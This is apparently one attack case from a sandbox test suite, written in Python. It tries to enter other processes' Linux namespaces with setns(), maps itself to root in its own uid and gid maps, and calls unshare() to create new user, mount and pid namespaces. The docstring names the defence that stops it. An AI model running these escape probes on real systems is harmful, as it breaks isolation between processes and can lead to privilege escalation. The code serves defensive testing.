"""Enters the namespaces of other processes, and makes a user namespace to be root in.

ids: 67
effect: reached
defence: Namespaces of others cannot be opened, and no system call that makes one is allowed.
"""

import contextlib
import ctypes
import os

NEW_MOUNTS, NEW_USER, NEW_PIDS = 0x20000, 0x10000000, 0x20000000


def attack(world):
    libc = ctypes.CDLL(None)
    for folder in world.others() if not world.calls else []:
        for kind in ("user", "mnt", "pid", "pid_for_children", "net", "ipc", "uts", "cgroup"):
            with contextlib.suppress(OSError):
                space = os.open(f"{folder}/ns/{kind}", os.O_RDONLY)
                world.tell(f"{folder}/ns/{kind}")
                if libc.setns(space, 0) == 0:
                    world.tell(f"{folder}/ns/{kind}, from inside")
                os.close(space)
    if world.calls:
        return
    for name in ("uid_map", "gid_map", "setgroups", "projid_map"):
        with contextlib.suppress(OSError), open(f"/proc/self/{name}", "w") as file:
            file.write("0 0 1" if name != "setgroups" else "deny")
            world.tell(f"its own {name}")
    for flags in (NEW_USER | NEW_MOUNTS, NEW_USER, NEW_MOUNTS, NEW_PIDS):
        if libc.unshare(flags) == 0:
            world.tell(f"new namespaces {flags:#x}")
